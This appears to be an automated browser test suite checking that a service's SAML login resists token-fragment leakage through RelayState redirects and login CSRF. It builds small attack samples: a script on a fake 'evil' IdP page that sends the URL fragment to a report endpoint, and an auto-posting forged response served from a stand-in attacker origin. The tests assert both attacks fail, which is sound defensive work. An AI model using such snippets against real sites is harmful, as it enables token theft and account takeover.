import { createServer, type Server } from 'node:https';
import { webcrypto } from 'node:crypto';
import * as x509 from '@peculiar/x509';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext } from 'playwright-core';
import { newOrg, useTestApi, type TestOrg } from './support/api.ts';
import { createTestIdP, type TestIdP } from './support/saml-idp.ts';
import { HAS_CHROMIUM, launchChromium } from './support/chromium.ts';
import { userEntity } from '../shared/db/entities/user.ts';
import { randomId } from '../shared/ids.ts';
import { startLoopbackServer, type LoopbackServer } from './support/loopback-server.ts';

/**
 * SP-initiated SAML login in a real browser: startURL, the identity provider's page (an
 * https server on localhost, another site than the API's 127.0.0.1) auto-posting the signed
 * response to the acsURL, the redirect to RelayState with the token. The ACS post is
 * cross-site, as with a real IdP.
 */
const api = useTestApi();
const ATTACKER_ORIGIN = 'https://attacker.test';

/** A TLS key and self-signed certificate for localhost (the browser context ignores HTTPS errors). */
async function localhostTls(): Promise<{ key: string; cert: string }> {
  const algorithm = { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' };
  const keys = await webcrypto.subtle.generateKey(algorithm, true, ['sign', 'verify']) as CryptoKeyPair;
  x509.cryptoProvider.set(webcrypto as unknown as Crypto);
  const cert = await x509.X509CertificateGenerator.createSelfSigned({ serialNumber: '02', name: 'CN=localhost', keys, signingAlgorithm: algorithm });
  const pkcs8 = Buffer.from(await webcrypto.subtle.exportKey('pkcs8', keys.privateKey)).toString('base64');
  return { key: `-----BEGIN PRIVATE KEY-----\n${pkcs8}\n-----END PRIVATE KEY-----\n`, cert: cert.toString('pem') };
}

const autoPost = (acsURL: string, fields: Record<string, string>) => `<!doctype html><html><body><form method="post" action="${acsURL}">${
  Object.entries(fields).map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`).join('')
}</form><script>document.forms[0].submit()</script></body></html>`;

describe.skipIf(!HAS_CHROMIUM)('SAML login in headless Chromium', () => {
  let browser: Browser;
  let idp: TestIdP;
  let org: TestOrg;
  let provider: { id: string; service: { acsURL: string; startURL: string; entityID: string } };
  let idpServer: LoopbackServer<Server> | undefined;
  let idpOrigin: string;
  /** What the attacker's IdP page found in its URL's fragment. */
  const evilSaw: string[] = [];
  /** Who the identity provider signs in, per browser (by its user agent). */
  const signedIn = new Map<string, string>();

  beforeAll(async () => {
    browser = await launchChromium();
    idp = await createTestIdP('browser-idp');
    idpServer = await startLoopbackServer(createServer(await localhostTls(), (req, res) => {
      const url = `${idpOrigin}${req.url}`;
      if (req.url?.startsWith('/evil-report')) {
        evilSaw.push(decodeURIComponent(req.url.slice('/evil-report?'.length)));
        return void res.writeHead(204).end();
      }
      if (req.url?.startsWith('/evil')) {
        // The attacker's IdP page: it reports what its URL's fragment holds.
        return void res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>evil</title><script>fetch("/evil-report?" + encodeURIComponent(location.hash))</script>');
      }
      const email = signedIn.get(req.headers['user-agent'] ?? '');
      if (!email || !new URL(url).searchParams.has('SAMLRequest')) return void res.writeHead(204).end();
      const request = idp.readAuthnRequest(url);
      const SAMLResponse = idp.response({ acsURL: request.acsURL, audience: provider.service.entityID, inResponseTo: request.id, email });
      res.writeHead(200, { 'content-type': 'text/html' }).end(autoPost(request.acsURL, { SAMLResponse, RelayState: request.relayState ?? '' }));
    }), { host: 'localhost' });
    idpOrigin = idpServer.url;
    org = await newOrg();
    const res = await api.request('POST', `/orgs/${org.id}/saml`, {
      token: org.admin.token,
      body: { label: 'Okta', entityID: idp.entityID, certificate: idp.certificate, ssoURL: `${idpOrigin}/sso/saml` },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    provider = res.body;
  });
  afterAll(async () => {
    await browser?.close();
    await idpServer?.close();
  });

  /** A browser the identity provider signs `email` in, answering each AuthnRequest with an auto-posting page. */
  async function browserSignedInAtIdP(email: string): Promise<BrowserContext> {
    const userAgent = `sso-browser-test ${randomId(8)}`;
    signedIn.set(userAgent, email);
    return browser.newContext({ ignoreHTTPSErrors: true, userAgent });
  }

  it('signs a person in from startURL to the RelayState page, the token in its fragment', async () => {
    const email = `browser.${randomId(8).toLowerCase()}@acme.example`;
    const context = await browserSignedInAtIdP(email);
    const page = await context.newPage();
    const relay = `${api.url}/v1/user`;
    await page.goto(`${provider.service.startURL}?RelayState=${encodeURIComponent(relay)}`);
    await page.waitForURL((url) => url.href.startsWith(`${relay}#`));
    const token = new URLSearchParams(new URL(page.url()).hash.slice(1)).get('token');
    const me = await api.request('GET', '/user', { token });
    expect(me.status).toBe(200);
    expect(me.body.email).toBe(email);
    // The binding cookie is spent.
    expect((await context.cookies()).filter((c) => c.name.startsWith('saml_request_'))).toEqual([]);
    await context.close();
  });

  it('never returns to another provider\'s startURL, whose redirect would carry the token\'s fragment to the ssoURL any admin sets', async () => {
    const attackerOrg = await newOrg('Attacker');
    const evil = await api.request('POST', `/orgs/${attackerOrg.id}/saml`, {
      token: attackerOrg.admin.token, body: { label: 'Evil', entityID: 'https://evil.test/', certificate: idp.certificate, ssoURL: `${idpOrigin}/evil` },
    });
    expect(evil.status).toBe(201);
    const context = await browserSignedInAtIdP(`relay.${randomId(8).toLowerCase()}@acme.example`);
    const page = await context.newPage();
    await page.goto(`${provider.service.startURL}?RelayState=${encodeURIComponent(evil.body.service.startURL)}`);
    expect(await page.title()).toBe('Sign-in failed');
    expect(await page.locator('#reason').innerText()).toBe('RelayState: must be a URL of this service');
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(evilSaw).toEqual([]);
    await context.close();
  });

  it('refuses a response the attacker got for their own account, posted by the victim\'s browser (login CSRF)', async () => {
    const attackerEmail = `attacker.${randomId(8).toLowerCase()}@acme.example`;
    // The attacker starts a login of their own and has the IdP sign a response for their account...
    const started = await fetch(provider.service.startURL, { redirect: 'manual' });
    const request = idp.readAuthnRequest(started.headers.get('location')!);
    const forged = { SAMLResponse: idp.response({ acsURL: request.acsURL, audience: provider.service.entityID, inResponseTo: request.id, email: attackerEmail }) };

    // ...and the victim's browser, which also started a login of its own, opens the attacker's page.
    const victim = await browser.newContext({ ignoreHTTPSErrors: true });
    await victim.route((url) => url.origin === ATTACKER_ORIGIN, (route) => route.fulfill({
      contentType: 'text/html', body: autoPost(provider.service.acsURL, { ...forged, RelayState: `${api.url}/v1/user` }),
    }));
    const page = await victim.newPage();
    await page.goto(provider.service.startURL).catch(() => undefined); // the IdP's page is empty: the victim has not signed in there
    expect((await victim.cookies()).filter((c) => c.name.startsWith('saml_request_'))).toHaveLength(1);
    const answer = page.waitForResponse(provider.service.acsURL);
    await page.goto(`${ATTACKER_ORIGIN}/`);
    const res = await answer;
    expect(res.status()).toBe(401);
    expect(page.url()).toBe(provider.service.acsURL);
    expect(await page.title()).toBe('Sign-in failed');
    expect(await page.locator('#reason').innerText()).toBe('SAMLResponse: this sign-in was not started in this browser: open the provider\'s startURL again');
    expect(await userEntity.query.byEmail({ email: attackerEmail }).all()).toEqual([]);
    await victim.close();
  });
});
